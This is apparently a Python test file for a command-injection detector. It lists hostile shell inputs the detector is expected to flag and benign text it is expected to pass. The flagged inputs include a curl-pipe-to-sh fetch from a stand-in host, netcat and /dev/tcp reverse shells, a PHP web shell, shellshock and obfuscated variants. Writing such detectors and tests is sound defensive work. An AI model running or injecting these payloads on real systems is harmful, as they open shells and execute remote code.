"""Command injection detector: a separator or substitution, then a command in shell form."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from otel_kit.signals.security.decoding import decode
from otel_kit.signals.security.shell import detect


@pytest.mark.parametrize(
    ("value", "pattern"),
    [
        ("; id", "chained_command"),
        ("x|whoami", "chained_command"),
        ("8.8.8.8 && uname -a", "chained_command"),
        ("a || ls -la /var", "chained_command"),
        ("x & ping -c 4 10.0.0.1 &", "chained_command"),
        ("%0Acat%20/etc/issue", "chained_command"),
        ("\\nid\\n", "chained_command"),
        ("';sleep 9;'", "chained_command"),
        ("x; curl https://x.example/a.sh | sh", "chained_command"),
        ("x; wget http://x.example/a -O /tmp/a", "chained_command"),
        ("1; nc -e /bin/sh 10.0.0.9 4444", "chained_command"),
        ("x; /usr/bin/env", "chained_command"),
        ("x; bash -c 'echo hi'", "chained_command"),
        ("x; python3 -c 'import os'", "chained_command"),
        ("x | cmd.exe /c dir", "chained_command"),
        ("x & type C:\\boot.ini", "chained_command"),
        ("x & net user guest /active:yes", "chained_command"),
        ("x & powershell -enc SQBFAFgA", "chained_command"),
        ("x && ipconfig /all", "chained_command"),
        ("`id`", "substitution"),
        ("name=`uname -a`", "substitution"),
        ("$(whoami)", "substitution"),
        ("x$(sleep 4)", "substitution"),
        ("cat${IFS}/etc/issue", "obfuscated_command"),
        ("w'h'o'am'i", "obfuscated_command"),
        ("who$()ami", "obfuscated_command"),
        ("system('id')", "code_execution"),
        ("<?php passthru($_GET['c']); ?>", "code_execution"),
        ("${@phpinfo()}", "code_execution"),
        ("<!--#exec cmd=\"ls\" -->", "server_side_include"),
        ("() { :;}; /bin/ping -c 1 10.0.0.1", "shellshock"),
        ("0<&196;exec 196<>/dev/tcp/10.0.0.1/4242", "reverse_shell"),
    ],
)
def test_injections_detected(value: str, pattern: str) -> None:
    """Each form is detected after decoding and shell de-obfuscation."""
    found = detect(decode(value))
    assert found is not None, value
    assert found[0] == pattern, (value, found)


@pytest.mark.parametrize(
    "value",
    [
        "Hi; cat lovers welcome", "the `id` field is required", "Use `ls` to list files", "| id | name |\n|----|------|",
        "Mozilla/5.0 (Linux; U; id) Presto/2.8", "Opera/9.80 (MTK; Opera Mini/2.1; U; id) Presto", "Tom & Jerry", "R&D; ping pong later",
        "Dinner & sleep 8 hours", "black & white", "salt & pepper; echo chamber", "P.S.; ps I love you", "It's done; type your name",
        "Fish & chips & more", "I'm at home\nid card lost", "AT&T", "Q&A", "x=1; y=2", "a && b", "Rock & roll | dir straits",
        "Python 3.14's annotationlib", "$(document).ready(fn)", "${user.name}", "regex.exec(text)", "C# & F#",
        "Run git diff --exit-code || bash -c \\", "&amp;", "&#39;",
    ],
)
def test_prose_and_markup_are_not_attacks(value: str) -> None:
    """Separators in prose, markdown code spans, table rows and user agents are not injections."""
    assert detect(decode(value)) is None, (value, detect(decode(value)))


@settings(max_examples=400, deadline=None)
@given(st.text(max_size=400))
def test_never_raises_on_text(value: str) -> None:
    """Arbitrary text never raises."""
    detect(value)


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from([";", "|", "&", "&&", "||", "`", "$(", ")", "\n", " ", "id", "cat", "ls", "-la", "/etc/x", "'", '"', "\\", "${IFS}", "<?php", "system(", "sleep", "5", "x"]), max_size=60))
def test_never_raises_on_shell_soup(parts: list[str]) -> None:
    """Shell soup never raises."""
    detect("".join(parts))
